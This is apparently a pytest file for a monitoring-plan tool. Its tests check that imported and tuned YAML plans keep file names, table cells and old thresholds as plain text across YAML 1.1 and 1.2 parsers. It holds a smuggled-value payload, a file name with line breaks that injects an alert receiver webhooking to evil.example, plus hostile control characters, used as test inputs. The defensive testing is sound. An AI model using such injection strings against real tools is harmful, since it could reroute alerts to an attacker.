"""Plans monplan writes for people to adopt (`monplan import` from Markdown or a Sloth spec, the
copy `monplan tune --write-plan` writes) hold other people's text in comments and values: a
document's words, a spec's file name, the plan's old threshold. Each must stay text: the
written plan reads back, by monplan's own loader (PyYAML, YAML 1.1, where U+2028, U+2029, U+0085
and CR end a line) and by a YAML 1.2 reader (ruamel), as exactly the keys and values monplan
meant, never as YAML structure that a file name or a cell put there.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
import yaml

from tests.conftest import ROOT, run_monplan

BREAKS = ["\n", "\r", "\u2028", "\u2029", "\x85"]
# After a line break, a receiver that would get every alert of the imported plan.
INJECTED = 'alert_routing: {receivers: [{name: evil, webhook: {url: "http:\\x2F\\x2Fevil.example\\x2Fhook"}}]}'

SLOTH = """\
version: "prometheus/v1"
service: "myservice"
slos:
  - name: "requests-availability"
    objective: 99.9
    sli:
      events:
        error_query: sum(rate(http_requests_total{job="myservice",code=~"5.."}[{{.window}}]))
        total_query: sum(rate(http_requests_total{job="myservice"}[{{.window}}]))
    alerting:
      name: MyServiceHighErrorRate
"""


def _readers(text: str) -> list[object]:
    """The document as monplan's loader's parser (YAML 1.1) and as a YAML 1.2 reader see it."""
    from ruamel.yaml import YAML

    return [yaml.safe_load(text), YAML(typ="safe", pure=True).load(io.StringIO(text))]


@pytest.mark.parametrize("brk", BREAKS, ids=[f"U+{ord(b):04X}" for b in BREAKS])
def test_a_sloth_specs_file_name_stays_in_its_comment(brk: str, tmp_path: Path) -> None:
    """The spec's file name is named in the imported plan's first comment: a line break in it
    (file names may hold any byte but / and NUL) used to start a top-level key of the plan."""
    spec = tmp_path / f"spec{brk}{INJECTED}{brk}#.yaml"
    spec.write_text(SLOTH)
    result = run_monplan("import", "--from", "sloth", spec.name, "--out", "plan.yaml", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "plan.yaml").read_text(encoding="utf-8")
    for data in _readers(text):
        assert isinstance(data, dict) and list(data) == ["version", "system", "sections"], data
    built = run_monplan("-q", "build", "--plan", "plan.yaml", "--out", "out", cwd=tmp_path)
    assert built.returncode == 0, built.stderr
    assert not [path for path in (tmp_path / "out").rglob("*") if path.is_file() and b"evil" in path.read_bytes()]


# A cell monplan cannot read as a threshold, kept verbatim in the imported plan.
HOSTILE_CELL = "Spike 3x{} normal"
CHARACTERS = ["\u2028", "\u2029", "\x85", "\x7f", "\x1b", "\x9b", "\ufeff"]


@pytest.mark.parametrize("char", CHARACTERS, ids=[f"U+{ord(c):04X}" for c in CHARACTERS])
def test_a_documents_cell_is_one_value_of_the_imported_plan(char: str, tmp_path: Path) -> None:
    """A threshold cell monplan cannot read is kept verbatim; with a character YAML refuses (DEL, C1)
    or reads as a line break (U+0085), the imported plan was one monplan itself could not load, or
    held another value than the document's."""
    seed = (ROOT / "tests/docimport/documents/seed.md").read_text(encoding="utf-8")
    cell = HOSTILE_CELL.format(char)
    document = seed.replace("| API Response Time | APM | >500ms avg | Medium |",
                            f"| API Response Time | APM | {cell} | Medium |", 1)
    (tmp_path / "plan.md").write_text(document, encoding="utf-8")
    result = run_monplan("import", "plan.md", "--out", "plan.yaml", "--deployed", "2026-11-25T09:00:00+01:00",
                         cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "plan.yaml").read_text(encoding="utf-8")
    # import reads a cell's blanks (U+2028, U+0085, ...) as one space and drops U+FEFF; the rest is kept.
    expected = "Spike 3x normal" if char.isspace() or char == "\ufeff" else cell
    for data in _readers(text):
        assert isinstance(data, dict)
        rows = [row for section in data["sections"] for row in section["metrics"]]
        (row,) = [row for row in rows if row["metric"] == "API Response Time"]
        assert row["threshold"] == expected
    from monplan.spec.loader import load_file

    assert load_file(tmp_path / "plan.yaml").data["version"] == 1  # monplan reads it: no located YAML error


def test_tunes_comment_keeps_the_old_threshold_as_text(tmp_path: Path) -> None:
    """`tune --write-plan` says what a changed value was in a comment beside it: a threshold whose
    words hold a line break (U+2028 in a double-quoted scalar) took over the copy's structure."""
    from monplan.app.pipeline import load_plan
    from monplan.live.tune import Finding, Suggestion
    from monplan.live.tune_plan import write_plan

    plan = tmp_path / "plan.yaml"
    text = (ROOT / "plan.yaml").read_text(encoding="utf-8")
    assert text.count('threshold: ">500ms avg"') == 1
    plan.write_text(text.replace('threshold: ">500ms avg"', 'threshold: ">500ms avg\\Lzzz:\\L#"'), encoding="utf-8")
    compiled = load_plan(plan)
    (alert,) = [a for a in compiled.alerts if a.threshold.text.startswith(">500ms avg")]
    finding = Finding(alert, "noisy", suggestions=[Suggestion("threshold", ">570ms avg", "noisy: 3 firings a day")])
    changed, problems = write_plan(plan, tmp_path / "tuned.yaml", [finding], "7d to 2026-12-02 09:00")
    assert changed and problems == [], [str(p) for p in problems]
    copy = (tmp_path / "tuned.yaml").read_text(encoding="utf-8")
    original = yaml.safe_load(plan.read_text(encoding="utf-8"))
    for data in _readers(copy):
        assert isinstance(data, dict) and list(data) == list(original)
